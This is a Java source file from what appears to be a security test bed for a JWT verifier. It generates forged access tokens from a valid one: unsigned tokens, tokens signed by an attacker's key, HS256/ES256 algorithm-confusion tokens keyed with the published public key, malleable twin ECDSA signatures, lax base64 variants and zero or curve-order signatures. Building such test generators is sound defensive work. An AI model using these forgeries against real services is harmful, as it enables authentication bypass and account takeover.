package dev.gatehouse.testbed.attack;

import com.fasterxml.jackson.databind.JsonNode;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.Signature;
import java.security.spec.ECGenParameterSpec;
import java.util.Arrays;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.stream.Stream;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

/** What can be made of a good access token by somebody who has everything but the private key. */
record ForgedTokens(String good) {
    private static final Base64.Encoder BASE64 = Base64.getUrlEncoder().withoutPadding();
    private static final String ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    private static final BigInteger ORDER =
            new BigInteger("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551", 16);
    /** What stands before the point of a P-256 key in a SubjectPublicKeyInfo (RFC 5480). */
    private static final String SPKI = "3059301306072a8648ce3d020106082a8648ce3d03010703420004";

    /** The claims of the good token under this header, with no signature. */
    String unsigned(String header) {
        return BASE64.encodeToString(header.getBytes(StandardCharsets.UTF_8)) + "." + good.split("\\.", -1)[1];
    }

    /** The same, signed by a key of the attacker's own. */
    String signedByStranger(String header, KeyPair stranger) {
        String text = unsigned(header);
        try {
            Signature signature = Signature.getInstance("SHA256withECDSAinP1363Format");
            signature.initSign(stranger.getPrivate());
            signature.update(text.getBytes(StandardCharsets.US_ASCII));
            return text + "." + BASE64.encodeToString(signature.sign());
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    /** The published key, taken for the secret of HS256 in each form in which it is found. */
    List<String> confusedWith(JsonNode jwk) {
        byte[] x = Base64.getUrlDecoder().decode(jwk.path("x").asText());
        byte[] y = Base64.getUrlDecoder().decode(jwk.path("y").asText());
        byte[] der = HexFormat.of()
                .parseHex(SPKI + HexFormat.of().formatHex(x) + HexFormat.of().formatHex(y));
        String pem = "-----BEGIN PUBLIC KEY-----\n"
                + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der) + "\n-----END PUBLIC KEY-----";
        String header = "{\"alg\":\"HS256\",\"typ\":\"at+jwt\",\"kid\":\""
                + jwk.path("kid").asText() + "\"}";
        return Stream.of(
                        pem.getBytes(StandardCharsets.US_ASCII),
                        (pem + "\n").getBytes(StandardCharsets.US_ASCII),
                        der,
                        jwk.toString().getBytes(StandardCharsets.UTF_8),
                        x)
                .map(secret -> hs256(header, secret))
                .toList();
    }

    /** The good token in other words: decoders that are not strict take each for the same. */
    List<String> inOtherWords() {
        int dot = good.lastIndexOf('.') + 1;
        String signature = good.substring(dot);
        char last = signature.charAt(signature.length() - 1);
        return List.of(
                good.substring(0, dot) + "?" + signature,
                good + "=",
                good + "==",
                good.substring(0, good.length() - 1) + ALPHABET.charAt(ALPHABET.indexOf(last) + 1),
                good.substring(0, dot)
                        + BASE64.encodeToString(twin(Base64.getUrlDecoder().decode(signature))));
    }

    /** The good token with signatures that need no key. */
    List<String> withEmptySignatures() {
        String text = good.substring(0, good.lastIndexOf('.') + 1);
        byte[] order = Arrays.copyOfRange(ORDER.toByteArray(), 1, 33);
        byte[] twice = Arrays.copyOf(order, 64);
        System.arraycopy(order, 0, twice, 32, 32);
        return List.of(
                text,
                text + BASE64.encodeToString(new byte[64]),
                text + BASE64.encodeToString(twice),
                text + BASE64.encodeToString(new byte[8]));
    }

    static KeyPair stranger() {
        try {
            KeyPairGenerator generator = KeyPairGenerator.getInstance("EC");
            generator.initialize(new ECGenParameterSpec("secp256r1"));
            return generator.generateKeyPair();
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    private String hs256(String header, byte[] secret) {
        String text = unsigned(header);
        try {
            Mac mac = Mac.getInstance("HmacSHA256");
            mac.init(new SecretKeySpec(secret, "HmacSHA256"));
            return text + "." + BASE64.encodeToString(mac.doFinal(text.getBytes(StandardCharsets.US_ASCII)));
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    /** The other signature that fits the same text: (r, n − s). */
    private static byte[] twin(byte[] signature) {
        byte[] s = ORDER.subtract(new BigInteger(1, Arrays.copyOfRange(signature, 32, 64)))
                .toByteArray();
        byte[] twin = Arrays.copyOf(Arrays.copyOf(signature, 32), 64);
        int length = Math.min(32, s.length);
        System.arraycopy(s, s.length - length, twin, 64 - length, length);
        return twin;
    }
}
